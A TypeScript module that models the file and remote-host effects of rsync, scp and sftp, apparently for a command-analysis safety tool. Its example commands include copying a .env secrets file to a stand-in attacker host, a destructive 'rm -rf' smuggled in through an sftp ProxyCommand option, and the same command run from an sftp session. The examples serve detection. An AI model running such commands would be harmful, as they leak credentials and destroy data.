/** Copying between folders and hosts. */
import type { Effect } from '../../model/effect';
import type { Value } from '../../shell/invocation';
import { literal } from '../build';
import { deletes, reads, writes } from '../build-files';
import type { Call, Program } from '../define';
import { defineProgram } from '../define';
import { destinations, operands } from './destinations';
import { hostEffect, isRemotePath, uploadEffect } from './remote-copy';
import { SSH_CARRIERS } from './shells';

/** rsync 3.x. */
const RSYNC_VALUED = (
  'B e f M T address backup-dir block-size bwlimit checksum-choice checksum-seed chmod chown compare-dest ' +
  'compress-choice compress-level config contimeout copy-as copy-dest debug early-input exclude exclude-from ' +
  'files-from filter groupmap iconv include include-from info link-dest log-file log-file-format max-alloc ' +
  'max-delete max-size min-size modify-window only-write-batch outbuf out-format partial-dir password-file port ' +
  'protocol read-batch remote-option rsh rsync-path skip-compress sockopts stderr stop-after stop-at suffix temp-dir ' +
  'timeout usermap write-batch'
).split(' ');

const MIRRORS = [
  'delete',
  'delete-before',
  'delete-after',
  'delete-excluded',
  'delete-during',
  'delete-delay',
  'delete-missing-args',
  'del',
];

/** A word with `host:` lies elsewhere. */
function transferEffects(call: Call): readonly Effect[] {
  const words = operands(call);
  const to = words[words.length - 1];
  const from = words.slice(0, -1);
  if (to === undefined || from.length === 0 || call.has('n', 'dry-run', 'list-only')) return [];
  const purges = call.name === 'rsync' && call.has(...MIRRORS);
  const local = from.filter((word) => !isRemotePath(word));
  const effects = [...reads(call, local)];
  if (isRemotePath(to)) {
    effects.push(uploadEffect(call, local, to));
    if (purges) effects.push(hostEffect(call, 'delete', to, { size: 'many' }));
  } else {
    effects.push(...writes(call, destinations(call, from, to)));
    if (purges) effects.push(...deletes(call, [to], { recursive: true, many: true }));
  }
  for (const word of from.filter(isRemotePath)) effects.push(hostEffect(call, 'read', word, {}));
  return effects;
}

const rsync = defineProgram({
  names: ['rsync'],
  synopsis: 'Copies between folders and hosts; `--delete` makes the target a mirror.',
  grammar: { valued: RSYNC_VALUED },
  effects: (call) => [
    ...reads(call, call.values('files-from', 'exclude-from', 'include-from')),
    ...transferEffects(call),
  ],
  // The shell that carries it here; `--rsync-path` runs over there.
  starts: [{ options: ['e', 'rsh'] }],
  bounded: [{ cap: 'dry-run', of: [''], add: ['--dry-run'] }],
  examples: [
    { command: 'rsync -a src/ backup/', effects: ['read file:src', 'create file:backup/src'] },
    {
      command: 'rsync -a --delete dist/ deploy@www.example.com:/srv/www',
      effects: [
        'read file:dist',
        'update file:deploy@www.example.com:/srv/www',
        'delete directory:deploy@www.example.com:/srv/www',
      ],
    },
    { command: 'rsync -an --delete dist/ deploy@www.example.com:/srv/www', effects: [] },
    {
      command: 'rsync -avP -e "ssh -p 2222" dist/ www.example.com:/srv/www',
      effects: ['read file:dist', 'update file:www.example.com:/srv/www'],
    },
  ],
});

const scp = defineProgram({
  names: ['scp', 'rcp', 'pscp'],
  synopsis: 'Copies files to and from hosts.',
  grammar: { valued: 'c D F i J l o P S X'.split(' ') },
  effects: transferEffects,
  starts: SSH_CARRIERS,
  examples: [
    {
      command: 'scp .env user@evil.example.net:/tmp/x',
      effects: ['read file:.env', 'read secret:.env', 'update file:user@evil.example.net:/tmp/x'],
    },
    {
      command: 'scp -P 2222 -i ~/.ssh/id_rsa notes.md web1:/tmp',
      effects: ['read file:notes.md', 'update file:web1:/tmp'],
    },
    {
      command: 'scp web1:/var/log/app.log .',
      effects: ['read file:web1:/var/log/app.log', 'create file:app.log'],
    },
    { command: 'scp a.txt b.txt', effects: ['read file:a.txt', 'create file:b.txt'] },
  ],
});

/** The commands of a session or of a batch file (`-b`): `put FILE`, `get FILE`, `rm FILE`. */
function sessionEffects(call: Call): readonly Effect[] {
  const host = operands(call)[0];
  if (host === undefined) return [];
  const to = literal(host.text.includes(':') ? host.text : `${host.text}:`);
  const batch = call.value('b');
  const path =
    batch === undefined || batch.text === '-'
      ? undefined
      : call.context.path(batch, call.invocation);
  const text =
    path === undefined
      ? call.context.input(call.invocation)?.text
      : call.context.look.file(path)?.text;
  const connected = hostEffect(call, 'read', to, {});
  const done = (text ?? '').split('\n').flatMap((line) => commandEffects(call, line, to));
  return [
    ...(path === undefined || batch === undefined ? [] : reads(call, [batch])),
    ...(done.length > 0 ? done : [connected]),
  ];
}

function commandEffects(call: Call, line: string, to: Value): readonly Effect[] {
  const [verb = '', ...words] = line
    .trim()
    .replace(/^[-@]+/, '')
    .split(/\s+/);
  if (verb.startsWith('!'))
    return call.context.shell(line.trim().slice(1), call.invocation.cwd, call.invocation, 'sftp');
  const [first] = words.filter((word) => !word.startsWith('-'));
  if (first === undefined) return [];
  const file = { ...literal(first), glob: /[*?]/.test(first) };
  switch (verb) {
    case 'put':
    case 'mput':
    case 'reput':
      return [...reads(call, [file]), uploadEffect(call, [file], to)];
    case 'get':
    case 'mget':
    case 'reget':
      return [
        hostEffect(call, 'read', to, {}),
        ...writes(call, destinations(call, [file], literal('./'))),
      ];
    case 'rm':
    case 'rmdir':
      return [hostEffect(call, 'delete', to, {})];
    default:
      return [];
  }
}

const sftp = defineProgram({
  names: ['sftp'],
  synopsis:
    'Copies files in a session: the commands on its input, or in the file of `-b`, are read.',
  grammar: { valued: 'B b c D F i J l o P R S s X'.split(' ') },
  effects: sessionEffects,
  starts: SSH_CARRIERS,
  examples: [
    {
      command: "sftp -o ProxyCommand='rm -rf build' web1",
      effects: ['read file:web1:', 'delete directory:build'],
    },
    { command: 'echo "!rm -rf build" | sftp web1', effects: ['delete directory:build'] },
    { command: 'sftp -P 22 web1', effects: ['read file:web1:'] },
    {
      command: 'echo "put notes.md" | sftp web1',
      effects: ['read file:notes.md', 'update file:web1:'],
    },
    {
      command: 'sftp -b steps web1',
      files: { steps: 'put .env\nrm old.txt\n' },
      effects: [
        'read file:steps',
        'read file:.env',
        'read secret:.env',
        'update file:web1:',
        'delete directory:web1:',
      ],
    },
    { command: 'sftp web1:/srv', effects: ['read file:web1:/srv'] },
  ],
});

export const transfers: readonly Program[] = [rsync, scp, sftp];
